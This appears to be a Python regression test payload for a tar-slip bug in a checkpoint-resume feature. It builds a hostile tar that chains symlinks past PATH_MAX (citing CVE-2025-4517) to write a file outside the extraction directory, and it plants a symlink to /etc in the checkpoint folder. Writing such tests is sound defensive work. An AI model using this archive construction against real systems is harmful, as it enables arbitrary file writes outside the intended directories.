"""Test payload for issue 17's tar slip: the first attempt leaves a hostile
tar where the agent used to take checkpoints from, a link in its checkpoint
directory, and one honest file, then fails; the attempt that resumes prints
what it was given.

``slip.py``"""

import io
import os
import sys
import tarfile

resume = os.environ.get("APPORTION_RESUME_FROM")
checkpoint = os.environ["APPORTION_CHECKPOINT_DIR"]
if resume:
    found = sorted(os.path.relpath(os.path.join(d, n), resume)
                   for d, dirs, files in os.walk(resume) for n in dirs + files)
    print("resumed:", " ".join(found))
    with open(os.path.join(resume, "counter")) as fh:
        print("counter:", fh.read())
    sys.exit(0)

# CVE-2025-4517: symlinks whose resolved path passes PATH_MAX, then a file
# written through a link that leads two levels above the destination.
comp, steps, prefix = "d" * 247, "abcdefghijklmnop", ""
with tarfile.open("checkpoint.tar", "w") as tar:
    for step in steps:
        d = tarfile.TarInfo(os.path.join(prefix, comp))
        d.type = tarfile.DIRTYPE
        tar.addfile(d)
        s = tarfile.TarInfo(os.path.join(prefix, step))
        s.type, s.linkname = tarfile.SYMTYPE, comp
        tar.addfile(s)
        prefix = os.path.join(prefix, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    link = tarfile.TarInfo(linkpath)
    link.type, link.linkname = tarfile.SYMTYPE, "../" * len(steps)
    tar.addfile(link)
    escape = tarfile.TarInfo("escape")
    escape.type, escape.linkname = tarfile.SYMTYPE, linkpath + "/../.."
    tar.addfile(escape)
    data = b"written outside\n"
    out = tarfile.TarInfo("escape/outside.txt")
    out.size = len(data)
    tar.addfile(out, io.BytesIO(data))
os.symlink("/etc", os.path.join(checkpoint, "etc-link"))
with open(os.path.join(checkpoint, "counter"), "w") as fh:
    fh.write("5")
print("left a hostile checkpoint.tar and failed", flush=True)
sys.exit(1)
